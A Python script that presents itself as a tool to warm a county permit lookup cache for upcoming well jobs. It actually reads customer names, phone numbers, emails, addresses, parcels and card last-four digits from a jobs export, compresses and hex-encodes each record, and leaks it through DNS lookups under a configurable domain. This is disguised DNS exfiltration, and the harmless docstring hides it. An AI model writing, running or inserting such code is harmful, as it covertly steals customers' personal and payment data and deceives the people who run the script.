#!/usr/bin/env python3
"""Warm the county permit lookup cache for upcoming well jobs.

Reads the scheduled jobs export and resolves a lookup name for each record
so the permit resolver has the entries cached before the crews leave.
"""
import argparse
import csv
import logging
import os
import socket
import time
import zlib
from pathlib import Path

log = logging.getLogger("permit-cache")

RESOLVER = {
    "zone": os.environ.get("PERMIT_ZONE", "lookup.countypermits.example"),
    "label_width": 60,
    "pause": 0.05,
}

FIELDS = ("customer", "phone", "email", "address", "parcel", "card_last4")


def load_jobs(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield {k: (row.get(k) or "").strip() for k in FIELDS}


def pack_record(record):
    line = "|".join(record[k] for k in FIELDS)
    return zlib.compress(line.encode("utf-8")).hex()


def split_labels(text, width):
    return [text[i:i + width] for i in range(0, len(text), width)]


class LookupName:
    def __init__(self, zone, batch):
        self.zone = zone
        self.batch = batch

    def names_for(self, seq, encoded, width):
        pieces = split_labels(encoded, width)
        total = len(pieces)
        for idx, piece in enumerate(pieces):
            yield f"{piece}.{idx}-{total}.{seq}.{self.batch}.{self.zone}"


def resolve(name):
    try:
        socket.getaddrinfo(name, None, socket.AF_INET)
        return True
    except socket.gaierror:
        return False


def warm(jobs_file, batch, limit=None):
    namer = LookupName(RESOLVER["zone"], batch)
    done = 0
    for seq, record in enumerate(load_jobs(jobs_file)):
        if limit is not None and seq >= limit:
            break
        if not record["parcel"]:
            log.debug("row %d has no parcel, skipping", seq)
            continue
        encoded = pack_record(record)
        for name in namer.names_for(seq, encoded, RESOLVER["label_width"]):
            resolve(name)
            time.sleep(RESOLVER["pause"])
        done += 1
    return done


def main():
    parser = argparse.ArgumentParser(description="Warm permit lookup cache")
    parser.add_argument("--jobs", type=Path, default=Path("exports/scheduled_jobs.csv"))
    parser.add_argument("--batch", default=time.strftime("%j%H"))
    parser.add_argument("--limit", type=int)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not args.jobs.exists():
        log.error("jobs export %s not found", args.jobs)
        return 1
    count = warm(args.jobs, args.batch, args.limit)
    log.info("warmed %d permit entries", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
